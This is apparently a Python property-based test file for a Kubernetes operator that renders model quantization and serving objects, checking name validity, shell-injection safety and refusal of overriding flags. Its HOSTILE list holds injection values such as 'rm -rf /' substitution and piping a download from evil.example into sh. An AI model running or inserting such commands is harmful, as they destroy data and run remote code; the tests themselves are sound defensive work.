"""Security properties of what quantwise renders from user input (hypothesis).

Names and labels derived from a QuantizedModel are DNS-1123 labels of at most 63 characters,
stable, with a hash suffix when the input had to change; values from the spec never reach a
shell (every container's command is an argument list, and a hostile value stays one argument);
extraArgs that would override a planned flag are refused.
"""

from __future__ import annotations

import copy
import re
from typing import Any

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError
from test_api import BASE
from test_planner import AWQ, LLAMA_8B

from quantwise.api.sizing import plan_spec
from quantwise.api.spec import MAX_NAME_LENGTH, QuantizedModelSpec
from quantwise.api.status import PlanStatus
from quantwise.planning.weights import estimate_weights
from quantwise.render.job import quantization_job
from quantwise.render.names import artifact_dir, dns_label
from quantwise.render.serving import deployment, service, serving_location
from quantwise.vllm import SHORT_ALIASES, Flag

DNS_LABEL = re.compile(r"^[a-z0-9]([-a-z0-9]*[a-z0-9])?$")
LABEL_VALUE = re.compile(r"^(([A-Za-z0-9][-A-Za-z0-9_.]*)?[A-Za-z0-9])?$")
SHELLS = {"sh", "bash", "dash", "zsh", "ash", "busybox", "env"}
HOSTILE = st.sampled_from(
    ["$(rm -rf /)", "`id`", "a; curl evil.example | sh", "x && reboot", "'\"\\n", "${HOME}"]
)
MODEL_NAMES = st.from_regex(rf"\A[a-z]([-a-z0-9]{{0,{MAX_NAME_LENGTH - 2}}}[a-z0-9])?\Z")
FAST = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@FAST
@given(st.text(max_size=300))
def test_any_text_becomes_a_stable_dns_label(value: str) -> None:
    label = dns_label(value)
    assert DNS_LABEL.match(label), label
    assert len(label) <= 63
    assert dns_label(value) == label
    if not (DNS_LABEL.match(value) and len(value) <= 63):
        assert re.search(r"-?[0-9a-f]{6}$", label)  # changed: a hash of the original kept


@FAST
@given(st.text(max_size=100), st.text(max_size=100))
def test_different_inputs_give_different_labels(a: str, b: str) -> None:
    assume(a != b)
    assert dns_label(a) != dns_label(b)


def objects_for(name: str, spec_body: dict[str, Any]) -> list[dict[str, Any]]:
    spec = QuantizedModelSpec.model_validate(spec_body)
    status = PlanStatus.from_plan(plan_spec(spec, LLAMA_8B, estimate_weights(LLAMA_8B, AWQ), AWQ))
    location = serving_location(spec, artifact_dir(name, spec))
    return [
        quantization_job(name, "ml", spec),
        deployment(name, "ml", spec, status, location),
        service(name, "ml"),
    ]


def containers(obj: dict[str, Any]) -> list[dict[str, Any]]:
    pod = obj["spec"].get("template", {}).get("spec", {})
    return [*pod.get("initContainers", []), *pod.get("containers", [])]


@FAST
@given(MODEL_NAMES)
def test_every_derived_name_and_label_is_valid_for_any_allowed_model_name(name: str) -> None:
    for obj in objects_for(name, copy.deepcopy(BASE["spec"])):
        meta = obj["metadata"]
        assert DNS_LABEL.match(meta["name"]) and len(meta["name"]) <= 63, meta["name"]
        labels = {**meta.get("labels", {})}
        labels.update(obj["spec"].get("template", {}).get("metadata", {}).get("labels", {}))
        labels.update(obj["spec"].get("selector", {}).get("matchLabels", {}))
        for key, value in labels.items():
            assert len(value) <= 63 and LABEL_VALUE.match(value), (key, value)


@FAST
@given(HOSTILE, st.lists(HOSTILE, min_size=1, max_size=3))
def test_values_from_the_spec_never_reach_a_shell(module: str, extra: list[str]) -> None:
    body = copy.deepcopy(BASE["spec"])
    body["serving"]["extraArgs"] = [f"--enable-prefix-caching={v}" for v in extra]
    body["quantization"]["ignore"] = [module]
    for obj in objects_for("llama", body):
        for container in containers(obj):
            command = container.get("command") or []
            args = container.get("args") or []
            assert isinstance(command, list) and isinstance(args, list)
            assert all(isinstance(a, str) for a in [*command, *args])
            assert not command or command[0].rsplit("/", 1)[-1] not in SHELLS, command
            assert "-c" not in command
    dep_args = objects_for("llama", body)[1]["spec"]["template"]["spec"]["containers"][0]["args"]
    for value in extra:  # a hostile value stays one whole argument
        assert f"--enable-prefix-caching={value}" in dep_args
    job_args = objects_for("llama", body)[0]["spec"]["template"]["spec"]["containers"][0]["args"]
    assert job_args[job_args.index(module) - 1] == "--ignore"


@pytest.mark.parametrize("flag", [*Flag, *SHORT_ALIASES])
@pytest.mark.parametrize("form", ["{flag}", "{flag}=1"])
def test_extra_args_that_override_a_planned_flag_are_refused(flag: str, form: str) -> None:
    body = copy.deepcopy(BASE["spec"])
    body["serving"]["extraArgs"] = ["--enable-prefix-caching", form.format(flag=flag), "1"]
    with pytest.raises(ValidationError, match="extraArgs") as info:
        QuantizedModelSpec.model_validate(body)
    assert flag in str(info.value)
